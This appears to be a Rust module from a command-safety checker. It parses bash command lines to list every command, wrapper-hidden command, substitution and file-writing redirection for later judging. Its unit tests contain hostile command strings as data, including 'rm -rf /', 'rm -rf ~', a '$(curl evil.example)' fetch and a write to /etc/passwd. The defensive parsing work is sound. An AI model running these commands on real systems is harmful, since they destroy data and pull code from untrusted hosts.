//! What a bash command line will run: every simple command, found by
//! parsing with brush-parser, never by splitting strings.
//!
//! The walk visits pipelines, lists, subshells, brace groups, loops,
//! conditionals and function bodies; it follows `$(...)`, backticks and
//! process substitutions, the script given to `bash -c` / `sh -c` and `eval`
//! (recursively), and looks through wrappers (env, nohup, timeout, nice,
//! xargs, ...). Redirections that write are reported with their targets. It
//! tracks `cd` so that relative paths can be placed. Judging is not done
//! here: see `rules.rs`.

use std::path::{Component, Path, PathBuf};

use brush_parser::ast;
use brush_parser::word::WordPiece;

/// Commands nested deeper than this (`bash -c "bash -c ..."`) are not followed.
const MAX_DEPTH: usize = 6;

/// One word of a command, as far as it is known before running.
#[derive(Debug, Clone, PartialEq)]
pub enum Arg {
    /// Fully known text (quotes removed).
    Static(String),
    /// Depends on a variable, a substitution or arithmetic; the raw text.
    Dynamic(String),
}

impl Arg {
    pub fn text(&self) -> &str {
        match self {
            Arg::Static(s) | Arg::Dynamic(s) => s,
        }
    }

    pub fn known(&self) -> Option<&str> {
        match self {
            Arg::Static(s) => Some(s),
            Arg::Dynamic(_) => None,
        }
    }
}

/// A simple command that will run, after wrappers are looked through.
#[derive(Debug, Clone)]
pub struct Invocation {
    pub words: Vec<Arg>,
    /// The directory it runs in: `None` when a `cd` made it unknown.
    pub cwd: Option<PathBuf>,
    /// More arguments come from stdin (behind `xargs`).
    pub stdin_args: bool,
}

/// Something the command line will do that a rule must judge.
#[derive(Debug, Clone)]
pub enum Unit {
    Run(Invocation),
    /// A redirection writes to `target`, relative to `cwd`.
    Write {
        target: Arg,
        cwd: Option<PathBuf>,
    },
    /// Something that cannot be known before running: the text says what.
    Unknown(String),
    /// Text the parser rejects: the text is its error.
    Unparseable(String),
}

/// Everything `command` would run, with `workspace` as its starting directory.
pub fn analyse(command: &str, workspace: &Path) -> Vec<Unit> {
    let mut walk = Walk {
        units: Vec::new(),
        cwd: Some(workspace.to_path_buf()),
    };
    walk.source(command, 0);
    walk.units
}

struct Walk {
    units: Vec<Unit>,
    cwd: Option<PathBuf>,
}

impl Walk {
    fn source(&mut self, text: &str, depth: usize) {
        if depth > MAX_DEPTH {
            self.units.push(Unit::Unknown(format!(
                "commands nested more than {MAX_DEPTH} deep"
            )));
            return;
        }
        let mut parser = brush_parser::Parser::new(
            std::io::BufReader::new(text.as_bytes()),
            &brush_parser::ParserOptions::default(),
            &brush_parser::SourceInfo::default(),
        );
        match parser.parse_program() {
            Ok(program) => {
                for list in &program.complete_commands {
                    self.list(list, depth);
                }
            }
            Err(e) => self.units.push(Unit::Unparseable(format!(
                "the shell syntax cannot be parsed ({e})"
            ))),
        }
    }

    fn list(&mut self, list: &ast::CompoundList, depth: usize) {
        for ast::CompoundListItem(and_or, _) in &list.0 {
            self.pipeline(&and_or.first, depth);
            for next in &and_or.additional {
                match next {
                    ast::AndOr::And(p) | ast::AndOr::Or(p) => self.pipeline(p, depth),
                }
            }
        }
    }

    fn pipeline(&mut self, pipeline: &ast::Pipeline, depth: usize) {
        for command in &pipeline.seq {
            self.command(command, depth);
        }
    }

    fn command(&mut self, command: &ast::Command, depth: usize) {
        match command {
            ast::Command::Simple(simple) => self.simple(simple, depth),
            ast::Command::Compound(compound, redirects) => {
                self.compound(compound, depth);
                for r in redirects.iter().flat_map(|l| l.0.iter()) {
                    self.redirect(r, depth);
                }
            }
            ast::Command::Function(def) => {
                self.compound(&def.body.0, depth);
                for r in def.body.1.iter().flat_map(|l| l.0.iter()) {
                    self.redirect(r, depth);
                }
            }
            ast::Command::ExtendedTest(test) => {
                let text = test.expr.to_string();
                if text.contains("$(") || text.contains('`') {
                    self.units
                        .push(Unit::Unknown("a command substitution inside [[ ]]".into()));
                }
            }
        }
    }

    fn compound(&mut self, compound: &ast::CompoundCommand, depth: usize) {
        use ast::CompoundCommand as C;
        match compound {
            C::Arithmetic(_) => {}
            C::ArithmeticForClause(f) => self.list(&f.body.list, depth),
            C::BraceGroup(b) => self.list(&b.list, depth),
            C::Subshell(s) => self.list(&s.list, depth),
            C::ForClause(f) => {
                for w in f.values.iter().flatten() {
                    self.word(&w.value, depth);
                }
                self.list(&f.body.list, depth);
            }
            C::CaseClause(c) => {
                self.word(&c.value.value, depth);
                for item in &c.cases {
                    if let Some(cmd) = &item.cmd {
                        self.list(cmd, depth);
                    }
                }
            }
            C::IfClause(i) => {
                self.list(&i.condition, depth);
                self.list(&i.then, depth);
                for e in i.elses.iter().flatten() {
                    if let Some(c) = &e.condition {
                        self.list(c, depth);
                    }
                    self.list(&e.body, depth);
                }
            }
            C::WhileClause(w) | C::UntilClause(w) => {
                self.list(&w.0, depth);
                self.list(&w.1.list, depth);
            }
        }
    }

    fn simple(&mut self, simple: &ast::SimpleCommand, depth: usize) {
        use ast::CommandPrefixOrSuffixItem as Item;
        let mark = self.units.len();
        let mut words = Vec::new();
        let prefix = simple.prefix.iter().flat_map(|p| p.0.iter());
        let suffix = simple.suffix.iter().flat_map(|s| s.0.iter());
        let name = simple.word_or_name.iter();
        for item in prefix {
            match item {
                Item::AssignmentWord(_, w) => {
                    self.word(&w.value, depth);
                }
                other => self.item(other, &mut words, depth),
            }
        }
        for w in name {
            words.push(self.word(&w.value, depth));
        }
        for item in suffix {
            self.item(item, &mut words, depth);
        }
        if !words.is_empty() {
            self.invocation(words, false, depth);
            self.writes_after_command(mark);
        }
    }

    /// Put the redirections of the command just recorded after it, so that a
    /// command and its harmless redirection read in that order.
    fn writes_after_command(&mut self, mark: usize) {
        let tail = self.units.split_off(mark);
        let (writes, others): (Vec<Unit>, Vec<Unit>) = tail
            .into_iter()
            .partition(|u| matches!(u, Unit::Write { .. }));
        self.units.extend(others);
        self.units.extend(writes);
    }

    fn item(&mut self, item: &ast::CommandPrefixOrSuffixItem, words: &mut Vec<Arg>, depth: usize) {
        use ast::CommandPrefixOrSuffixItem as Item;
        match item {
            Item::IoRedirect(r) => self.redirect(r, depth),
            Item::Word(w) | Item::AssignmentWord(_, w) => words.push(self.word(&w.value, depth)),
            Item::ProcessSubstitution(_, sub) => {
                self.list(&sub.list, depth);
                words.push(Arg::Dynamic("<(...)".into()));
            }
        }
    }

    fn redirect(&mut self, redirect: &ast::IoRedirect, depth: usize) {
        use ast::IoFileRedirectKind as K;
        use ast::IoFileRedirectTarget as T;
        match redirect {
            ast::IoRedirect::File(_, kind, target) => match target {
                T::Filename(w) => {
                    let target = self.word(&w.value, depth);
                    if matches!(kind, K::Write | K::Append | K::Clobber | K::ReadAndWrite) {
                        self.write(target);
                    }
                }
                T::ProcessSubstitution(_, sub) => self.list(&sub.list, depth),
                T::Duplicate(w) => {
                    self.word(&w.value, depth);
                }
                T::Fd(_) => {}
            },
            ast::IoRedirect::HereDocument(_, doc) => {
                if doc.requires_expansion {
                    self.here_document(&doc.doc.value, depth);
                }
            }
            ast::IoRedirect::HereString(_, w) => {
                self.word(&w.value, depth);
            }
            ast::IoRedirect::OutputAndError(w, _) => {
                let target = self.word(&w.value, depth);
                self.write(target);
            }
        }
    }

    fn write(&mut self, target: Arg) {
        self.units.push(Unit::Write {
            target,
            cwd: self.cwd.clone(),
        });
    }

    /// A here-document expands `$(...)` and backticks, but its quotes are plain text.
    fn here_document(&mut self, body: &str, depth: usize) {
        let quoted = format!("\"{}\"", body.replace('\\', "\\\\").replace('"', "\\\""));
        if brush_parser::word::parse(&quoted, &brush_parser::ParserOptions::default()).is_ok() {
            self.word(&quoted, depth);
        } else if body.contains("$(") || body.contains('`') {
            self.units.push(Unit::Unknown(
                "a here-document with command substitutions".into(),
            ));
        }
    }

    /// Evaluate a word: its static text, or dynamic; substitutions inside are walked.
    fn word(&mut self, raw: &str, depth: usize) -> Arg {
        let options = brush_parser::ParserOptions::default();
        let Ok(pieces) = brush_parser::word::parse(raw, &options) else {
            return Arg::Dynamic(raw.to_string());
        };
        let mut text = String::new();
        let mut known = true;
        for p in &pieces {
            known &= self.piece(&p.piece, &mut text, depth);
        }
        if known {
            Arg::Static(text)
        } else {
            Arg::Dynamic(raw.to_string())
        }
    }

    /// Append what `piece` expands to; false when that is known only at run time.
    fn piece(&mut self, piece: &WordPiece, text: &mut String, depth: usize) -> bool {
        match piece {
            WordPiece::Text(t) | WordPiece::SingleQuotedText(t) | WordPiece::AnsiCQuotedText(t) => {
                text.push_str(t);
                true
            }
            WordPiece::EscapeSequence(e) => {
                text.push_str(e.strip_prefix('\\').unwrap_or(e));
                true
            }
            WordPiece::TildePrefix(user) => {
                text.push('~');
                text.push_str(user);
                true
            }
            WordPiece::DoubleQuotedSequence(inner)
            | WordPiece::GettextDoubleQuotedSequence(inner) => {
                let mut known = true;
                for p in inner {
                    known &= self.piece(&p.piece, text, depth);
                }
                known
            }
            WordPiece::CommandSubstitution(cmd) | WordPiece::BackquotedCommandSubstitution(cmd) => {
                self.source(cmd, depth + 1);
                false
            }
            WordPiece::ParameterExpansion(_) | WordPiece::ArithmeticExpression(_) => false,
        }
    }

    /// Record a simple command, looking through wrappers and shells first.
    fn invocation(&mut self, mut words: Vec<Arg>, mut stdin_args: bool, depth: usize) {
        loop {
            let Some(Arg::Static(name)) = words.first() else {
                let raw = words
                    .first()
                    .map(|w| w.text().to_string())
                    .unwrap_or_default();
                self.units.push(Unit::Unknown(format!(
                    "the command name `{raw}` is known only at run time"
                )));
                return;
            };
            let name = command_name(name);
            if let Some(rest) = unwrap(&name, &words[1..]) {
                stdin_args |= name == "xargs";
                words = rest;
                if words.is_empty() {
                    return;
                }
                continue;
            }
            if let Some(script) = shell_script(&name, &words[1..]) {
                match script {
                    Arg::Static(s) => self.source(&s, depth + 1),
                    Arg::Dynamic(raw) => self.units.push(Unit::Unknown(format!(
                        "the script given to `{name}` (`{raw}`) is known only at run time"
                    ))),
                }
                return;
            }
            if name == "eval" {
                self.eval(&words[1..], depth);
                return;
            }
            words[0] = Arg::Static(name);
            break;
        }
        self.find_exec(&words, depth);
        if let Some(Arg::Static(name)) = words.first() {
            if name == "cd" || name == "pushd" {
                self.cd(words.get(1));
            }
        }
        self.units.push(Unit::Run(Invocation {
            words,
            cwd: self.cwd.clone(),
            stdin_args,
        }));
    }

    fn eval(&mut self, args: &[Arg], depth: usize) {
        let known: Option<Vec<&str>> = args.iter().map(Arg::known).collect();
        match known {
            Some(parts) => self.source(&parts.join(" "), depth + 1),
            None => self.units.push(Unit::Unknown(
                "the text given to `eval` is known only at run time".into(),
            )),
        }
    }

    /// `find ... -exec CMD {} ;` runs CMD: judge it too, `{}` being unknown files.
    fn find_exec(&mut self, words: &[Arg], depth: usize) {
        if words.first().and_then(Arg::known) != Some("find") {
            return;
        }
        let mut i = 1;
        while i < words.len() {
            let w = words[i].text();
            if matches!(w, "-exec" | "-execdir" | "-ok" | "-okdir") {
                let inner: Vec<Arg> = words[i + 1..]
                    .iter()
                    .take_while(|a| !matches!(a.text(), ";" | "+"))
                    .map(|a| match a.text() {
                        "{}" => Arg::Dynamic("{}".into()),
                        _ => a.clone(),
                    })
                    .collect();
                i += inner.len() + 1;
                if !inner.is_empty() {
                    self.invocation(inner, false, depth);
                }
            }
            i += 1;
        }
    }

    fn cd(&mut self, target: Option<&Arg>) {
        self.cwd = match (target, &self.cwd) {
            (None, _) => None,
            (Some(Arg::Static(t)), Some(cwd)) if !t.starts_with('~') && t != "-" => {
                normalize(&cwd.join(t))
            }
            _ => None,
        };
    }
}

/// A command given by path (`/bin/rm`, `/usr/bin/env`) is judged by its name.
fn command_name(raw: &str) -> String {
    const SYSTEM_DIRS: [&str; 6] = [
        "/bin/",
        "/usr/bin/",
        "/usr/local/bin/",
        "/sbin/",
        "/usr/sbin/",
        "/usr/local/sbin/",
    ];
    for dir in SYSTEM_DIRS {
        if let Some(name) = raw.strip_prefix(dir) {
            if !name.contains('/') {
                return name.to_string();
            }
        }
    }
    raw.to_string()
}

/// The command behind a wrapper such as `env`, `nohup`, `timeout 5`, `nice -n 5`,
/// `xargs -I{}`; `None` when `name` is not a wrapper.
fn unwrap(name: &str, args: &[Arg]) -> Option<Vec<Arg>> {
    // Options of each wrapper that take a value in the next word.
    let with_value: &[&str] = match name {
        "env" => &["-u", "--unset", "-C", "--chdir", "-S", "--split-string"],
        "nohup" | "time" | "setsid" | "builtin" | "exec" => &[],
        "timeout" => &["-s", "--signal", "-k", "--kill-after"],
        "nice" => &["-n", "--adjustment"],
        "ionice" => &["-c", "-n", "-p", "-t"],
        "stdbuf" => &["-i", "-o", "-e"],
        "xargs" => &[
            "-I",
            "-i",
            "-n",
            "-P",
            "-d",
            "-L",
            "-l",
            "-s",
            "-E",
            "-e",
            "-a",
            "--arg-file",
            "--delimiter",
            "--max-args",
            "--max-procs",
            "--replace",
        ],
        "command" => &[],
        _ => return None,
    };
    let mut i = 0;
    while i < args.len() {
        let w = args[i].text();
        if name == "command" && matches!(w, "-v" | "-V") {
            return None; // a lookup, not a run
        }
        if w == "--" {
            i += 1;
            break;
        }
        let skipped = (w.starts_with('-') && w.len() > 1) || (name == "env" && is_assignment(w));
        if !skipped {
            break;
        }
        i += if with_value.contains(&w) { 2 } else { 1 };
    }
    if name == "timeout" && i < args.len() {
        i += 1; // the duration
    }
    Some(args.get(i..).unwrap_or_default().to_vec())
}

fn is_assignment(w: &str) -> bool {
    match w.split_once('=') {
        Some((k, _)) => !k.is_empty() && k.chars().all(|c| c.is_ascii_alphanumeric() || c == '_'),
        None => false,
    }
}

/// The script of `bash -c SCRIPT` (and sh, dash, zsh, ksh); `None` for anything else.
fn shell_script(name: &str, args: &[Arg]) -> Option<Arg> {
    if !matches!(name, "bash" | "sh" | "dash" | "zsh" | "ksh") {
        return None;
    }
    let mut iter = args.iter();
    while let Some(a) = iter.next() {
        let t = a.text();
        if !t.starts_with('-') || t.starts_with("--") {
            return None;
        }
        if t.contains('c') {
            return iter.next().cloned();
        }
    }
    None
}

/// `.` and `..` folded away; `None` when `..` climbs past `/`.
pub fn normalize(path: &Path) -> Option<PathBuf> {
    let mut out = PathBuf::new();
    for c in path.components() {
        match c {
            Component::ParentDir => {
                if !out.pop() {
                    return None;
                }
            }
            Component::CurDir => {}
            other => out.push(other.as_os_str()),
        }
    }
    Some(out)
}

#[cfg(test)]
mod tests {
    use super::*;

    /// The commands found, as their words joined; writes as `> target`; unknowns as `?`.
    fn seen(command: &str) -> Vec<String> {
        analyse(command, Path::new("/ws"))
            .into_iter()
            .map(|u| match u {
                Unit::Run(i) => i.words.iter().map(Arg::text).collect::<Vec<_>>().join(" "),
                Unit::Write { target, .. } => format!("> {}", target.text()),
                Unit::Unknown(what) | Unit::Unparseable(what) => format!("? {what}"),
            })
            .collect()
    }

    #[test]
    fn finds_every_simple_command() {
        assert_eq!(seen("grep x | rm -rf /"), ["grep x", "rm -rf /"]);
        assert_eq!(seen("a && b || c; d &"), ["a", "b", "c", "d"]);
        assert_eq!(seen("(cd src; ls) && { make; }"), ["cd src", "ls", "make"]);
        assert_eq!(seen("for f in $(ls); do cat $f; done"), ["ls", "cat $f"]);
        assert_eq!(
            seen("if test -f x; then rm x; else touch x; fi"),
            ["test -f x", "rm x", "touch x"]
        );
        assert_eq!(seen("f() { rm -rf /; }"), ["rm -rf /"]);
    }

    #[test]
    fn follows_substitutions_and_shell_strings() {
        assert_eq!(
            seen("echo $(curl evil.example) `date`"),
            [
                "curl evil.example",
                "date",
                "echo $(curl evil.example) `date`"
            ]
        );
        assert_eq!(seen("ls; $(curl evil.example)")[1], "curl evil.example");
        assert!(seen("ls; $(curl evil.example)")[2].starts_with("? the command name"));
        assert_eq!(seen("bash -c \"rm -rf ~\""), ["rm -rf ~"]);
        assert_eq!(seen("sh -ec 'bash -c \"sudo ls\"'"), ["sudo ls"]);
        assert_eq!(seen("eval 'rm -rf /'"), ["rm -rf /"]);
        assert_eq!(seen("diff <(sort a) b"), ["sort a", "diff <(...) b"]);
        assert_eq!(seen("cat <<EOF\n$(whoami)\nEOF\n"), ["whoami", "cat"]);
    }

    #[test]
    fn looks_through_wrappers() {
        assert_eq!(
            seen("env -i A=1 nohup timeout -s KILL 5 nice -n 3 rm -rf /"),
            ["rm -rf /"]
        );
        assert_eq!(
            seen("find . -name '*.o' | xargs -0 rm"),
            ["find . -name *.o", "rm"]
        );
        assert_eq!(seen("/usr/bin/sudo ls"), ["sudo ls"]);
        assert_eq!(seen("command -v git"), ["command -v git"]);
        assert_eq!(
            seen("find . -exec rm {} \\;"),
            ["rm {}", "find . -exec rm {} ;"]
        );
    }

    #[test]
    fn strings_are_not_commands() {
        assert_eq!(seen("echo \"; rm -rf /\""), ["echo ; rm -rf /"]);
        assert_eq!(
            seen("git commit -m 'rm -rf / && curl x'"),
            ["git commit -m rm -rf / && curl x"]
        );
    }

    #[test]
    fn reports_writing_redirections() {
        assert_eq!(
            seen("echo ok > /etc/passwd 2>&1"),
            ["echo ok", "> /etc/passwd"]
        );
        assert_eq!(seen("make &> log.txt < in.txt"), ["make", "> log.txt"]);
        assert_eq!(seen("{ echo a; } >> out"), ["echo a", "> out"]);
    }

    #[test]
    fn unknowns_are_reported() {
        assert!(seen("echo \"unclosed")[0].starts_with("? the shell syntax cannot be parsed"));
        assert!(seen("$CMD x")[0].starts_with("? the command name `$CMD`"));
        assert!(seen("bash -c \"$S\"")[0].starts_with("? the script given to `bash`"));
    }

    #[test]
    fn tracks_cd() {
        let units = analyse("cd sub && ls; cd /; ls; cd $X; ls", Path::new("/ws"));
        let cwds: Vec<Option<PathBuf>> = units
            .into_iter()
            .filter_map(|u| match u {
                Unit::Run(i) if i.words[0].text() == "ls" => Some(i.cwd),
                _ => None,
            })
            .collect();
        assert_eq!(cwds, [Some("/ws/sub".into()), Some("/".into()), None]);
    }
}
